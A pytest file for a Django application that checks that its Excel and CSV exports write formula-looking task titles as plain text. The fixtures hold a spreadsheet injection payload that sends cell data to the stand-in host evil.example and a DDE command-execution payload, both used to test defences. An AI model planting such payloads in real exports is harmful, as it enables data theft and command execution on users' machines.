"""Every export writes a formula-looking title or description as text, never as a live formula."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from luoshi.bulletins import actions as bulletin_actions
from luoshi.bulletins.compose import parse_period
from luoshi.bulletins.export import to_xlsx
from luoshi.commitments.actions import commitment_xlsx, generate_commitment
from luoshi.documents.excel import export_task_table
from luoshi.plans.models import Task

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
COMMAND = "=cmd|' /C calc'!A0"


@pytest.fixture
def poisoned(cast):
    """The cast's measure carries a formula title and a formula description, and is overdue in November."""
    Task.objects.filter(pk=cast.measure.pk).update(
        title=LINK, description=COMMAND, deadline=dt.date(2026, 11, 10)
    )
    Task.objects.filter(pk=cast.jingfa_task.pk).update(title="+1+2", description="@SUM(1)")
    return cast


def formulas_in(data: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate (an <f> element in the sheet XML)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = {
            name: archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")
        }
    return [name for name, xml in sheets.items() if b"<f>" in xml or b"<f " in xml]


def texts(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def assert_plain(data: bytes) -> None:
    assert formulas_in(data) == []
    assert any(LINK in text for text in texts(data))  # the title is still there, as text


def test_the_printable_task_table_writes_formulas_as_text(poisoned, tmp_path):
    output = tmp_path / "plan.xlsx"
    call_command("export_excel", plan=poisoned.plan.pk, output=str(output))
    assert_plain(output.read_bytes())
    assert COMMAND in texts(output.read_bytes())
    out = io.BytesIO()
    export_task_table(poisoned.plan).save(out)
    assert_plain(out.getvalue())


def test_the_task_list_export_writes_formulas_as_text_in_xlsx_and_quoted_in_csv(poisoned):
    client = Client()
    client.force_login(poisoned.supervisor)
    assert_plain(client.get(reverse("task_export", args=["xlsx"]), {"plan": poisoned.plan.pk}).content)
    response = client.get(reverse("task_export", args=["csv"]), {"plan": poisoned.plan.pk})
    titles = [row[1] for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))]
    assert f"'{LINK}" in titles and "'+1+2" in titles
    assert not any(title.startswith(("=", "+", "-", "@")) for title in titles)


def test_the_bulletin_workbook_writes_formulas_as_text(poisoned):
    period = parse_period("2026-11")
    draft = bulletin_actions.draft_bulletin(poisoned.supervisor, plan=poisoned.plan, period=period)
    assert_plain(to_xlsx(bulletin_actions.bulletin_content(draft)))


def test_the_commitment_workbook_writes_formulas_as_text(poisoned):
    Task.objects.filter(pk=poisoned.key.pk).update(title=LINK)  # due in 2027, so on the 2027 list
    commitment = generate_commitment(poisoned.supervisor, poisoned.caizheng, 2027)
    assert_plain(commitment_xlsx(commitment))
